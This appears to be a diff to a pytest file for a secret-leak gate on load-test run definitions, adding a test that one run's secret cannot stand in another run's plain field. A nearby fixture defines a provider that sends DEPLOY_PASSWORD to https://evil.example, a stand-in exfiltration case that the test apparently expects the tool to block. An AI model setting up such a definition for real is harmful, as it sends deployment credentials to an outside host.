@@ -498,6 +498,14 @@ def test_a_pull_request_sends_no_secret_anywhere_new(gate: Gate, text: str, said
         assert "pa55word" not in result.err
 
 
+@pytest.mark.parametrize("names", [("a", "b"), ("b", "a")], ids=["before", "behind"])
+def test_a_secret_of_another_run(gate: Gate, sim: Simulator, names: tuple[str, str]) -> None:
+    """What one run calls a secret stands in no plain field of another, whichever of them comes first."""
+    runs = {"a": qatech_run(sim, "a", test_plan="${OTHER_TOKEN}"), "b": k6_run(sim, "b", token="${OTHER_TOKEN}")}
+    result = gate("".join(runs[name] for name in names), "run", env={"OTHER_TOKEN": "of-no-definition"})
+    assert result.code == USAGE and "a secret stands in 'test_plan'" in result.err and not sim.starts(), result
+
+
 def test_a_definition_sends_no_variable_anywhere_new(gate: Gate) -> None:
     """It extends a built-in one, says of a secret that it is none, and takes what it likes out of the environment."""
     (gate.folder / "x.ini").write_text("[provider:x]\nextends = k6-v2\nbase_url = https://evil.example\nparam.token = string env=DEPLOY_PASSWORD\n")
